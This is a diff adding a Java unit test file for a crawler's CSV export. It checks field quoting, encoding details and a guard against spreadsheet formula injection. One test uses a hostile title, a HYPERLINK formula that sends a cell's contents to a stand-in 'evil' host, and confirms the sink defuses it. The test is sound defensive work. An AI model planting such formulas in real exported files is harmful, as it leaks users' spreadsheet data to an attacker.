@@ -1,0 +1,94 @@
+package io.fluxcrawl.sink;
+
+import static io.fluxcrawl.sink.SinkOptions.DEFAULT;
+import static io.fluxcrawl.sink.SinkTarget.Format.CSV;
+import static io.fluxcrawl.sink.SinkTarget.Format.JSONL;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.fluxcrawl.result.Columns;
+import io.fluxcrawl.result.CrawlRecord;
+import io.fluxcrawl.result.SampleRecords;
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.Test;
+import tools.jackson.databind.JsonNode;
+
+class CsvSinkTest {
+    private static final SinkOptions ROW_AND_TITLE =
+            DEFAULT.withColumns(Columns.ALL.select(List.of("row", "title", "word_count")));
+
+    @Test
+    void theFirstRowHoldsTheNamesAndEveryRowAsManyFields() {
+        List<List<String>> rows = StrictCsv.read(
+                Written.by(CSV, DEFAULT, SampleRecords.full(), SampleRecords.invalid(2, "x"), SampleRecords.full()));
+        assertThat(rows).hasSize(4).allSatisfy(row -> assertThat(row).hasSameSizeAs(Columns.ALL.names()));
+        assertThat(rows.get(0)).isEqualTo(Columns.ALL.names());
+    }
+
+    @Test
+    void aFieldHoldsWhatTheJsonLineHolds() {
+        CrawlRecord full = SampleRecords.full();
+        JsonNode json = Written.jsonLines(Written.by(JSONL, DEFAULT, full)).get(0);
+        List<String> fields = StrictCsv.read(Written.by(CSV, DEFAULT, full)).get(1);
+        for (int i = 0; i < fields.size(); i++) {
+            JsonNode expected = json.get(Columns.ALL.names().get(i));
+            if (expected.isString()) assertThat(fields.get(i)).isEqualTo(expected.stringValue());
+            else assertThat(Written.JSON.readTree(fields.get(i))).isEqualTo(expected);
+        }
+    }
+
+    @Test
+    void anAbsentValueIsEmptyAndAnEmptyTextIsQuoted() {
+        assertThat(Written.by(CSV, ROW_AND_TITLE, SampleRecords.titled("", Map.of())))
+                .isEqualTo("row,title,word_count\r\n1,\"\",\r\n");
+        assertThat(Written.by(CSV, ROW_AND_TITLE, SampleRecords.invalid(7, "x")))
+                .isEqualTo("row,title,word_count\r\n7,,\r\n");
+    }
+
+    @Test
+    void quotesCommasAndLineBreaksInsideAFieldAreQuotedAsTheRfcSays() {
+        assertThat(Written.by(CSV, ROW_AND_TITLE, SampleRecords.titled("a \"b\", c\r\nd", Map.of())))
+                .isEqualTo("row,title,word_count\r\n1,\"a \"\"b\"\", c\r\nd\",\r\n");
+    }
+
+    @Test
+    void whatAnotherReaderMightSplitOrTrimIsQuotedToo() {
+        assertThat(Written.by(CSV, ROW_AND_TITLE, SampleRecords.titled("a;b", Map.of())))
+                .contains("1,\"a;b\",\r\n");
+        assertThat(Written.by(CSV, ROW_AND_TITLE, SampleRecords.titled(" a", Map.of())))
+                .contains("1,\" a\",\r\n");
+    }
+
+    @Test
+    void aHostilePageCannotRunInASpreadsheetUnlessTheUserTurnsTheGuardOff() {
+        CrawlRecord hostile = SampleRecords.titled("=HYPERLINK(\"http://evil/\"&A1)", Map.of("k", ";=1"));
+        SinkOptions options = DEFAULT.withColumns(Columns.ALL.select(List.of("title", "input")));
+        assertThat(Written.by(CSV, options, hostile))
+                .isEqualTo(
+                        "title,input\r\n\"'=HYPERLINK(\"\"http://evil/\"\"&A1)\",\"{\"\"k\"\":\"\";\\u003d1\"\"}\"\r\n");
+        assertThat(Written.by(CSV, options.withFormulaSafe(false), hostile))
+                .isEqualTo("title,input\r\n\"=HYPERLINK(\"\"http://evil/\"\"&A1)\",\"{\"\"k\"\":\"\";=1\"\"}\"\r\n");
+    }
+
+    @Test
+    void theUrlOfARowIsGuardedAsAllTextIs() {
+        SinkOptions options = DEFAULT.withColumns(Columns.ALL.select(List.of("url")));
+        assertThat(Written.by(CSV, options, SampleRecords.invalid(1, "-1+1"))).isEqualTo("url\r\n'-1+1\r\n");
+    }
+
+    @Test
+    void nulAndLoneSurrogatesBecomeTheReplacementCharacter() {
+        assertThat(Written.by(CSV, ROW_AND_TITLE, SampleRecords.titled("a\0b\uD800c", Map.of())))
+                .isEqualTo("row,title,word_count\r\n1,a\uFFFDb\uFFFDc,\r\n");
+    }
+
+    @Test
+    void aByteOrderMarkComesFirstWhereAskedFor() {
+        assertThat(Written.by(CSV, ROW_AND_TITLE.withByteOrderMark(true))).isEqualTo("\uFEFFrow,title,word_count\r\n");
+    }
+
+    @Test
+    void aCrawlWithoutRecordsStillHasItsNames() {
+        assertThat(Written.by(CSV, ROW_AND_TITLE)).isEqualTo("row,title,word_count\r\n");
+    }
+}
